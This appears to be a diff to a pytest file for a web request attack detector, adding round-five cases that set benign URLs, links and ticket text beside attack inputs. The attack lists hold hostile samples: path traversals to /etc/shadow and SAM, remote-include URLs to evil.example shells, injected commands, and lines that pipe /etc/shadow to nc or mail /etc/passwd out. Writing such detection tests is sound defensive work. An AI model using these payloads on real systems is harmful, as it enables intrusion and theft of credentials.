@@ -702,11 +702,12 @@ FIXED_FP = [
 OTHER_FAMILY_FP |= {"/view?q=aws%20169.254.169.254/latest/meta-data%20docs", "/view?q=/etc/passwd%20format"}
 
 
-# A URL inside a request path is CRS v4 931131's class (PL2, even for this site's own host). Image proxies
-# (thumbor, imgproxy) and web archives do it by design: it scores just above the threshold, as the weakest rfi
-# evidence, so a `disable rfi for /unsafe/` rule is the documented cure; a URL that names code scores higher.
+# A URL inside a request path is CRS v4 931131's class (PL2, even for this site's own host). Web archives and plain
+# proxies do it by design: it scores just above the threshold, as the weakest rfi evidence, so a `disable rfi for
+# /proxy/` rule is the documented cure; a URL that names code scores higher. Since round 5 a picture behind resize
+# options (thumbor, imgproxy) is only reported: the options in front of the URL keep any include from opening it.
 @pytest.mark.parametrize("target,score", [
-    ("/unsafe/fit-in/300x300/https://cdn.example.com/img.jpg", 0.6), ("/web/2024/https://www.example.com/", 0.6),
+    ("/unsafe/fit-in/300x300/https://cdn.example.com/img.jpg", 0.3), ("/web/2024/https://www.example.com/", 0.6),
     ("/proxy/https://images.example.org/photo.png", 0.6), ("/shop.example/https://shop.example/cart", 0.6),
     ("/index.php/http://evil.example/shell.txt", 0.7), ("/include/ftp://198.51.100.2/x.php", 0.85),
 ])
@@ -969,10 +970,109 @@ R4_BENIGN_OTHER_FAMILY = [
 # path family; after: 28 / 28 and 0 / 16.
 
 
-# Round 1's batches (ALL_*), round 2's CRS 3.3.4 classes and round 3's CRS 4.25 classes and probes stay separate lists
+# Round 5 (blind batches, issue #4): classes behind four false positives of values written without sight of the
+# detectors: a repository file on a code host, a relative link in a page, a system folder named in a ticket or a
+# shell snippet, a picture on a thumbnailing route; each beside the attacks of the same shape that must stay caught.
+# First pass on the code before this round's fix: attacks 44 / 44 caught, benign 29 / 37 flagged by a path family
+# (repo 10/10, links 7/7, prose 5/13, proxy 7/7); after: 44 / 44 and 0 / 37.
+# item 1: files of a repository shown by a code host, beside dumps and project files requested at a web root
+R5_REPO_BENIGN = [
+    path("/acme/shop/blob/main/db/schema.sql"), path("/acme/shop/-/blob/develop/db/seeds/001_countries.sql"),
+    path("/acme/shop/raw/v2.3.1/sql/reports/monthly_revenue.sql"), path("/acme/shop/blame/main/composer.lock"),
+    path("/acme/shop/blob/main/Dockerfile"), path("/acme/shop/commits/main/package-lock.json"),
+    path("/acme/infra/src/branch/main/ansible/files/init.sql"), path("/projects/PAY/repos/api/browse/db/V12__add_refunds.sql"),
+    path("/acme/shop/blob/4f2a9c1/src/db/dump_fixtures.sql"), path("/acme/shop/-/raw/main/yarn.lock"),
+]
+R5_REPO_ATTACKS = [
+    path("/backup.sql"), path("/db/dump.sql"), path("/wp-content/uploads/backup-db/shop_2024-06-01.sql"),
+    path("/database.sql.gz"), path("/sql/backup.sql.zip"), path("/blob/backup.sql"),
+    path("/static/db/migrations/20240601_init.sql"), path("/acme/shop/blob/main/../../../../backup.sql"),
+    path("/acme/shop/blob/main/.git/config"), path("/acme/shop/blob/main/%2e%2e/%2e%2e/%2e%2e/composer.lock"),
+]
+# item 2: relative links in markup (the browser resolves them against the page), beside traversals to system files
+R5_LINK_BENIGN = [
+    form("post_content", '<p>See the <a href="../../2022/results/">2022 results</a> for comparison.</p>'),
+    form("content", '<figure><img src="../../uploads/2024/05/chart.png" alt="Sales chart"></figure>'),
+    js({"html": '<p><img src="../../assets/img/banner.png" alt=""> Hello</p>'}),
+    form("body", "<ul><li><a href='../index.html'>Up</a></li><li><a href='../../docs/intro/'>Intro</a></li></ul>"),
+    js({"content": '<p><a href=../../../archive/2021/>Archive</a></p>'}),
+    form("description", '<p>Download the <a href="../../files/price-list-2024.pdf">price list</a> (PDF, 2 MB).</p>'),
+    js({"body": "Older numbers are in [the 2022 report](../../2022/annual-report/) and [2021](../../2021/annual-report/)."}),
+]
+R5_LINK_ATTACKS = [
+    form("post_content", '<a href="../../../../etc/passwd">x</a>'), js({"html": '<img src="..\\..\\..\\windows\\win.ini">'}),
+    form("content", '<iframe src="../../../../proc/self/environ"></iframe>'),
+    form("body", "<a href='..%2f..%2f..%2fetc%2fshadow'>x</a>"), js({"content": '<a href="..\\..\\web.config">cfg</a>'}),
+    form("post_content", '<p>hi</p><a href="../../../../var/www/html/wp-config.php">a</a>'),
+    qv("file", "../../2023/annual-report/"), qv("page", '../../../../uploads/shell.php"><a href="x">'),
+    js({"body": "[x](../../../../etc/shadow)"}), form("tpl", '../../../../../app/config/parameters.yml'),
+]
+# item 3 and 4: system folders named in a ticket or a shell snippet of a post, not opened or read
+R5_PROSE_BENIGN = [
+    form("description", "Scanner driver won't load (code 39) from C:\\Windows\\System32\\drivers\\usbscan.sys - PC WS-221, user amiller."),
+    js({"text": "Event Viewer says C:\\Windows\\System32\\winevt\\Logs\\Security.evtx is full (20 MB) - can we raise the limit?"}),
+    form("description", "Backup job fails: access denied (0x80070005) writing to C:\\inetpub\\logs\\LogFiles\\W3SVC1 - server WEB-02."),
+    form("notes", "Deployed the hotfix to /var/www/shop/releases/4812 on app-03 (build 4812) - cache cleared, all green."),
+    js({"comment": "Disk alert on db-01: /var/lib/postgresql/15/main is at 91% (WAL growth) - rotated, ok now."}),
+    form("body", "Permissions issue after deploy, I ran\n\n    sudo chown -R www-data:www-data /var/www/html/storage\n\nand it works now."),
+    js({"text": "In the image I create the folder first:\n\n    mkdir -p /var/lib/mysql-files && chmod 750 /var/lib/mysql-files\n\nbut MySQL still complains about secure_file_priv."}),
+    form("body", "```\nWORKDIR /var/www/app\nRUN ln -sf /dev/stdout /var/log/nginx/access.log\n```\nIs the symlink needed with the official image?"),
+    form("comment", "Fixed by adding `WORKDIR /usr/local/app` before the COPY, thanks!"),
+    js({"text": "Nginx reload fails (emerg) after I added a vhost - config is /etc/nginx/sites-enabled/shop, error log says duplicate listen."}),
+    form("description", "Since KB5034441 the print spooler (spoolsv.exe) crashes, dump is in C:\\Windows\\System32\\config\\systemprofile\\AppData\\Local\\CrashDumps - ticket for the desktop team."),
+    js({"text": "The cron job in /etc/cron.d/backup runs at 02:00 but the dump is empty - anyone seen that with pg_dump 16?"}),
+    form("body", "Our Ansible role renders the template to /etc/ssh/sshd_config.d/10-hardening.conf and restarts sshd (handler), but it never fires."),
+]
+R5_PROSE_ATTACKS = [
+    form("description", "C:\\Windows\\System32\\config\\SAM"), qv("file", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
+    form("cmd", "type C:\\Windows\\win.ini"), form("description", "x & type C:\\Windows\\System32\\drivers\\etc\\hosts"),
+    qv("f", "..\\..\\..\\Windows\\System32\\config\\SAM"), qv("log", "C:\\inetpub\\wwwroot\\web.config"),
+    form("msg", "more C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"),
+    form("body", "RUN rm -rf /var/lib/apt/lists/* && cat /etc/shadow"), form("q", "x; tar czf - /etc/shadow | nc 203.0.113.5 9"),
+    form("body", "while read l; do echo $l; done < /etc/shadow"), form("cmd", "mail -s x a@evil.example < /etc/passwd"),
+    js({"text": "sudo chown -R me /var/www && base64 /var/www/html/.env"}),
+    form("body", "Our role runs cat /etc/ssh/sshd_config - output?"), js({"text": "error (x) - see /etc/passwd"}),
+]
+# item 5: a remote image on a thumbnailing route, beside remote code in a path or an include parameter
+R5_PROXY_BENIGN = [
+    path("/unsafe/fit-in/640x480/https://images.example.net/products/sku-1234.webp"),
+    path("/insecure/rs:fill:300:200/plain/https://cdn.example.org/photos/beach.jpg@webp"),
+    path("/cdn-cgi/image/width=300,quality=75/https://shop.example/media/hero.png"),
+    path("/image/fetch/w_400,h_300,c_fill/https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg"),
+    path("/9fJ2k3Lq0xZbQ1/300x0/filters:quality(80)/https://static.example.com/a/b/c.jpeg"),
+    path("/thumbs/200x200/smart/http://media.example.org/2024/06/logo.gif"),
+    path("/sig/resize:fit:1200:0/gravity:sm/https://img.example.io/banner.avif"),
+]
+R5_PROXY_ATTACKS = [
+    path("/unsafe/300x200/http://evil.example/shell.txt"), path("/index.php/http://evil.example/shell.jpg?"),
+    qv("page", "http://evil.example/shells/r57.txt?"), qv("include", "https://x.example/y.php"),
+    path("/index.php/https://evil.example/payload.php"), path("/unsafe/300x200/ftp://evil.example/x.jpg"),
+    path("/unsafe/300x200/https://evil.example/cat.jpg.php"), path("/unsafe/300x200/http://203.0.113.9/cat.jpg"),
+    path("/index.php/http://evil.example/x"), path("/unsafe/300x200/https://evil.example/cat.jpg%00.php"),
+]
+R5_ATTACKS = R5_REPO_ATTACKS + R5_LINK_ATTACKS + R5_PROSE_ATTACKS + R5_PROXY_ATTACKS
+R5_BENIGN_ALL = R5_REPO_BENIGN + R5_LINK_BENIGN + R5_PROSE_BENIGN + R5_PROXY_BENIGN
+# Shell snippets that rce (another helper's detector) flags as commands: the path families must stay silent on them.
+R5_BENIGN_OTHER_FAMILY = [R5_PROSE_BENIGN[i] for i in (5, 6, 7)]
+R5_BENIGN = [r for r in R5_BENIGN_ALL if r not in R5_BENIGN_OTHER_FAMILY]
+
+
+def test_round5_sizes():
+    labels, benign = [_label(r) for r in R5_ATTACKS], [_label(r) for r in R5_BENIGN_ALL]
+    assert len(set(labels)) == len(labels) >= 40 and len(set(benign)) == len(benign) >= 35
+    assert not set(labels) & {_label(r) for r in ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS}
+
+
+@pytest.mark.parametrize("r", R5_BENIGN_OTHER_FAMILY, ids=_ids(R5_BENIGN_OTHER_FAMILY))
+def test_round5_shell_snippets_have_no_path_finding(engine, r):
+    hits = engine.inspect(r)
+    assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits
+
+
+# Round 1's batches (ALL_*), round 2's CRS 3.3.4 classes and round 3's CRS 4.25 classes and probes, rounds 4-5 stay separate lists
 # for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
-_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS
-_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN + R4_BENIGN
+_ATTACKS = ALL_ATTACKS + CLASS_ATTACKS + R3_ALL + R4_ATTACKS + R5_ATTACKS
+_NEAR_MISSES = ALL_BENIGN + CLASS_BENIGN + FIXED_FP + R3_BENIGN + R4_BENIGN + R5_BENIGN
 _OTHER_FAMILY_FP = OTHER_FAMILY_FP | R3_OTHER_FAMILY_FP
 
 
